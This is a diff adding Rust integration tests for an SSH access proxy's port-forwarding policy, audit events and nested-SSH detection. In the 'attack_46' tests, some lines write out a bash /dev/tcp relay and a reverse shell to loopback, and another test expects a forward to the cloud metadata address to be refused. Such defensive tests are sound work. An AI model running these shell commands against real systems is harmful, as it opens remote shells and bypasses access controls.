@@ -1,0 +1,359 @@
+//! Forwards with stock OpenSSH, over the agent and over a stock sshd: what the role lists is carried, counted and told, and
+//! nothing else; and no SSH connection hides inside of another.
+
+use std::io::{Read, Write};
+use std::net::{Ipv4Addr, TcpListener, TcpStream};
+use std::path::Path;
+use std::time::Duration;
+
+use serde_json::Value;
+
+use crate::house::{
+    Done, House, PATIENCE, Running, User, Way, accepts, free_port, login, noise, run, run_with,
+    stock, target, text, until, write,
+};
+
+/// Says back what it is told, on a port of its own.
+fn echo() -> u16 {
+    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for stream in listener.incoming() {
+            let Ok(mut reader) = stream else { return };
+            std::thread::spawn(move || {
+                let mut writer = reader.try_clone().unwrap();
+                // A client that leaves early is its own business.
+                drop(std::io::copy(&mut reader, &mut writer));
+                drop(writer.shutdown(std::net::Shutdown::Write));
+            });
+        }
+    });
+    port
+}
+
+/// A role that has `options`, beside `access`.
+fn role(house: &House, name: &str, options: &str) {
+    let file = house.path(&format!("{name}.yaml"));
+    let role = format!(
+        "kind: role\nversion: v1\nmetadata: {{ name: {name} }}\nspec:\n  options: {{ {options} }}\n  \
+         allow: {{ node_labels: {{ \"*\": \"*\" }}, logins: [{}] }}\n",
+        login()
+    );
+    write(&file, role);
+    house.mezctl(&["apply", "-f", file.to_str().unwrap()]).ok();
+}
+
+/// A user who may forward to `destinations`.
+fn forwarder<'a>(house: &'a House, name: &str, destinations: &[String]) -> User<'a> {
+    let list = format!("\"{}\"", destinations.join("\", \""));
+    let options = format!("port_forwarding: true, forward_destinations: [{list}]");
+    role(house, name, &options);
+    house.user_with(name, &format!("access,{name}"), &login(), &[])
+}
+
+/// `ssh -W PLACE`, with `input` as what the client sends.
+#[track_caller]
+fn through(user: &User<'_>, way: Way, node: &str, place: &str, input: &[u8]) -> Done {
+    let mut ssh = user.openssh("ssh", way);
+    ssh.args(["-W", place, &target(node)]);
+    run_with(&mut ssh, input)
+}
+
+fn forwards(house: &House, user: &str, action: &str) -> Vec<Value> {
+    let mut events = house.events_of(user, "session.forward");
+    events.retain(|event| text(event, "action") == action);
+    events
+}
+
+/// Says `said` to `port` and expects it back.
+#[track_caller]
+fn echoes(mut stream: TcpStream, said: &[u8]) {
+    stream.set_read_timeout(Some(PATIENCE)).unwrap();
+    stream.write_all(said).unwrap();
+    let mut back = vec![0; said.len()];
+    stream.read_exact(&mut back).unwrap();
+    assert_eq!(back, said);
+}
+
+#[test]
+fn what_the_role_lists_is_carried_counted_and_told() {
+    let house = House::start();
+    house.agent("web");
+    house.agentless("db1");
+    let port = echo();
+    let listed = [format!("127.0.0.1:{port}"), format!("localhost:{port}")];
+    let bulk = noise("forward", 3_000_000);
+    for (node, way) in [
+        ("web", Way::Proxy),
+        ("web", Way::Jump),
+        ("db1", Way::Proxy),
+        ("db1", Way::Jump),
+    ] {
+        let name = format!("{node}-{way:?}").to_lowercase();
+        let user = forwarder(&house, &name, &listed);
+        for place in &listed {
+            let done = through(&user, way, node, place, &bulk);
+            assert_eq!(done.code, 0, "{done}");
+            assert!(done.stdout == bulk, "{name}: other bytes came back");
+        }
+        let session = house.session(&name, 2);
+        let closed = forwards(&house, &name, "closed");
+        assert_eq!(closed.len(), 2, "{closed:#?}");
+        for (event, place) in closed.iter().zip(&listed) {
+            assert_eq!(text(event, "destination"), *place);
+            assert_eq!(text(event, "direction"), "local");
+            let carried = [&event["bytes_to_client"], &event["bytes_to_node"]];
+            assert_eq!(carried, [&Value::from(bulk.len()); 2], "{event}");
+            assert_eq!(event["success"], true, "{event}");
+        }
+        assert_eq!(forwards(&house, &name, "opened").len(), 2);
+        let told = house.export(&session.id, "json");
+        let note = format!(
+            "local {}: 3000000 bytes to the client, 3000000 to the node",
+            listed[1]
+        );
+        assert!(told.contains(&note), "{told}");
+        assert!(told.contains("direct-tcpip"), "{told}");
+    }
+    house.mezctl(&["audit", "verify"]).ok();
+}
+
+#[test]
+fn local_and_dynamic_forwards_serve_many_connections() {
+    let house = House::start();
+    house.agent("web");
+    let port = echo();
+    let user = forwarder(&house, "alice", &[format!("127.0.0.1:{port}")]);
+    let (local, socks) = (free_port(), free_port());
+    let mut ssh = user.openssh("ssh", Way::Proxy);
+    ssh.args(["-N", "-L", &format!("127.0.0.1:{local}:127.0.0.1:{port}")])
+        .args(["-D", &format!("127.0.0.1:{socks}"), &target("web")]);
+    let running = Running::start(&mut ssh, b"");
+    until("the forwards", || accepts(local) && accepts(socks));
+    let connect = |port| TcpStream::connect((Ipv4Addr::LOCALHOST, port)).unwrap();
+    let streams: Vec<TcpStream> = (0..20).map(|_| connect(local)).collect();
+    for (index, stream) in streams.into_iter().enumerate() {
+        echoes(stream, format!("local {index}").as_bytes());
+    }
+    // SOCKS 5 (RFC 1928) to the same place, and to one that is not listed.
+    for (wanted, answer) in [(port, 0), (free_port(), 1)] {
+        let mut stream = connect(socks);
+        stream.set_read_timeout(Some(PATIENCE)).unwrap();
+        stream.write_all(&[5, 1, 0]).unwrap();
+        let mut method = [0; 2];
+        stream.read_exact(&mut method).unwrap();
+        let request = [&[5, 1, 0, 1, 127, 0, 0, 1][..], &wanted.to_be_bytes()].concat();
+        stream.write_all(&request).unwrap();
+        let mut reply = [0; 10];
+        match stream.read_exact(&mut reply) {
+            Ok(()) => assert_eq!(reply[1] != 0, answer != 0, "{reply:?}"),
+            Err(error) => assert_ne!(answer, 0, "{error}"),
+        }
+        if answer == 0 {
+            echoes(stream, b"through socks");
+        }
+    }
+    drop(running);
+    house.session("alice", 1);
+    // The port probes of this test are connections, too.
+    assert!(forwards(&house, "alice", "closed").len() >= 21);
+    assert_eq!(forwards(&house, "alice", "refused").len(), 1);
+}
+
+#[test]
+fn what_no_role_lists_is_refused_and_told() {
+    let house = House::start();
+    house.agent("web");
+    house.agentless("db1");
+    let port = echo();
+    let other = forwarder(&house, "other", &[format!("127.0.0.1:{}", free_port())]);
+    // `access` permits forwards and lists nothing.
+    let plain = house.user("plain");
+    for node in ["web", "db1"] {
+        for user in [&other, &plain] {
+            let before = forwards(&house, &user.name, "refused").len();
+            for place in [
+                format!("127.0.0.1:{port}"),
+                format!("localhost:{port}"),
+                String::from("169.254.169.254:80"),
+            ] {
+                let done = through(user, Way::Proxy, node, &place, b"hello");
+                assert_eq!(done.code, 255, "{done}");
+                assert!(done.stdout.is_empty(), "{done}");
+                assert!(done.err().contains("forwarding failed"), "{done}");
+            }
+            let refused = forwards(&house, &user.name, "refused");
+            assert_eq!(refused.len(), before + 3, "{refused:#?}");
+            let last = refused.last().unwrap();
+            assert_eq!(text(last, "destination"), "169.254.169.254:80");
+            assert!(
+                text(last, "error_message").contains("listed literally"),
+                "{last}"
+            );
+        }
+    }
+    assert!(forwards(&house, "other", "opened").is_empty());
+    // Nobody looks at what a name stands for on a stock sshd; the agent does.
+    let any = forwarder(&house, "any", &[String::from("*:*")]);
+    let place = format!("localhost:{port}");
+    let done = through(&any, Way::Proxy, "web", &place, b"hello");
+    assert_eq!((done.code, done.out().as_str()), (0, "hello"), "{done}");
+    let done = through(&any, Way::Proxy, "db1", &place, b"hello");
+    assert_eq!(done.code, 255, "{done}");
+    // Where nobody listens, the node says so and it is told.
+    let nowhere = format!("127.0.0.1:{}", free_port());
+    let done = through(&any, Way::Proxy, "web", &nowhere, b"hello");
+    assert_eq!(done.code, 255, "{done}");
+    let failed = forwards(&house, "any", "closed");
+    assert_eq!(failed.last().unwrap()["success"], false, "{failed:#?}");
+}
+
+#[test]
+fn a_forward_ends_with_the_role_that_lists_it() {
+    let house = House::start();
+    house.agent("web");
+    let port = echo();
+    let user = forwarder(&house, "alice", &[format!("127.0.0.1:{port}")]);
+    let local = free_port();
+    let mut ssh = user.openssh("ssh", Way::Proxy);
+    ssh.args(["-N", "-L", &format!("127.0.0.1:{local}:127.0.0.1:{port}")])
+        .arg(target("web"));
+    let running = Running::start(&mut ssh, b"");
+    until("the forward", || accepts(local));
+    let stream = TcpStream::connect((Ipv4Addr::LOCALHOST, local)).unwrap();
+    echoes(stream.try_clone().unwrap(), b"hello");
+    role(
+        &house,
+        "alice",
+        "port_forwarding: true, forward_destinations: [\"db:5432\"]",
+    );
+    let done = running.wait(Duration::from_secs(20));
+    assert!(done.err().contains("your roles do not list it"), "{done}");
+    drop(stream);
+    let session = house.session("alice", 1);
+    let reason = text(session.event("session.end"), "reason");
+    assert!(reason.contains("access was withdrawn"), "{reason}");
+}
+
+/// The events of SSH connections that were found inside of others.
+fn nested(house: &House, user: &str) -> Vec<Value> {
+    house.events_of(user, "session.nested_ssh")
+}
+
+#[test]
+fn attack_46_no_forward_leads_to_an_sshd() {
+    let house = House::start();
+    house.agent("web");
+    let port = house.agentless("db1");
+    let user = forwarder(&house, "alice", &[format!("127.0.0.1:{port}")]);
+    let place = format!("127.0.0.1:{port}");
+    let mut found = 0;
+    for node in ["web", "db1"] {
+        for way in [Way::Proxy, Way::Jump] {
+            // The target's own sshd and another node's: each speaks first.
+            let done = through(&user, way, node, &place, b"");
+            assert!(done.out().starts_with("mezite: "), "{done}");
+            assert!(
+                done.out().contains("is not allowed by your roles"),
+                "{done}"
+            );
+            assert_eq!(done.out().lines().count(), 1, "{done}");
+            found += 1;
+            // A client that speaks first is not heard either.
+            let port = echo();
+            role(
+                &house,
+                "alice",
+                &format!(
+                    "port_forwarding: true, forward_destinations: [\"{place}\", \"127.0.0.1:{port}\"]"
+                ),
+            );
+            let inside = format!("127.0.0.1:{port}");
+            let done = through(&user, way, node, &inside, b"SSH-2.0-OpenSSH_9.2\r\n");
+            assert!(!done.out().contains("SSH-2.0-OpenSSH_9.2\r\n"), "{done}");
+            found += 1;
+            let events = nested(&house, "alice");
+            assert_eq!(events.len(), found, "{events:#?}");
+            assert_eq!(text(events.last().unwrap(), "sent_by"), "client");
+        }
+    }
+    // Stock ssh inside of stock ssh.
+    let outer = format!(
+        "ssh {} -W %h:%p {}",
+        user.options(Way::Proxy).join(" "),
+        target("web")
+    );
+    let mut inner = stock("ssh");
+    inner
+        .env("HOME", &user.home)
+        .args(["-F", "none", "-o", &format!("ProxyCommand={outer}")])
+        .args(["-o", "StrictHostKeyChecking=no", "-o", "BatchMode=yes"])
+        .args(["-p", &port.to_string(), "-v"])
+        .args([&format!("{}@127.0.0.1", login()), "echo in"]);
+    let done = run(&mut inner);
+    assert_eq!(done.code, 255, "{done}");
+    assert!(done.stdout.is_empty(), "{done}");
+    assert_eq!(nested(&house, "alice").len(), found + 1);
+    house.mezctl(&["audit", "verify"]).ok();
+}
+
+#[test]
+fn attack_46_no_command_carries_an_ssh_connection() {
+    let house = House::start();
+    house.agent("web");
+    let port = house.agentless("db1");
+    let user = house.user("alice");
+    // `nc %h 22` by other means: what `ProxyCommand` would run.
+    let command = format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat <&0 >&3 & cat <&3'");
+    let mut found = 0;
+    for node in ["web", "db1"] {
+        for way in [Way::Proxy, Way::Jump] {
+            for input in [&b""[..], b"SSH-2.0-OpenSSH_9.2\r\n"] {
+                let mut ssh = user.ssh(way, node);
+                let done = run_with(ssh.arg(&command), input);
+                assert_eq!(done.code, 255, "{done}");
+                assert!(!done.out().contains("SSH-"), "{done}");
+                assert!(done.err().contains("inside this exec"), "{done}");
+                found += 1;
+            }
+            // A script on standard input of a shell without a terminal.
+            let mut ssh = user.openssh("ssh", way);
+            let done = run_with(ssh.args(["-T", &target(node)]), command.as_bytes());
+            assert!(!done.out().contains("SSH-"), "{done}");
+            assert!(done.err().contains("inside this shell"), "{done}");
+            found += 1;
+        }
+    }
+    assert_eq!(nested(&house, "alice").len(), found);
+    // A reverse shell leaves by the node's own network; the command that starts it is told and recorded.
+    let back = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
+    let place = back.local_addr().unwrap().port();
+    let reverse = format!("bash -c 'bash -i >& /dev/tcp/127.0.0.1/{place} 0>&1'");
+    let mut ssh = user.ssh(Way::Proxy, "web");
+    let running = Running::start(ssh.arg(&reverse), b"");
+    let (mut shell, _) = back.accept().unwrap();
+    shell.write_all(b"exit\n").unwrap();
+    running.wait(PATIENCE);
+    let told = house.events_of("alice", "session.exec");
+    assert_eq!(text(told.last().unwrap(), "command"), reverse);
+}
+
+#[test]
+fn a_role_may_allow_ssh_inside_which_is_told() {
+    let house = House::start();
+    house.agent("web");
+    let port = house.agentless("db1");
+    let place = format!("127.0.0.1:{port}");
+    role(
+        &house,
+        "nested",
+        &format!("port_forwarding: true, nested_ssh: true, forward_destinations: [\"{place}\"]"),
+    );
+    let user = house.user_with("alice", "nested", &login(), &[]);
+    let done = through(&user, Way::Proxy, "web", &place, b"");
+    assert!(done.out().starts_with("SSH-2.0-OpenSSH"), "{done}");
+    let events = nested(&house, "alice");
+    assert_eq!(events.len(), 1, "{events:#?}");
+    assert_eq!(text(&events[0], "action"), "allowed");
+    assert!(Path::new(&house.recording(&house.session("alice", 1).id)).exists());
+}
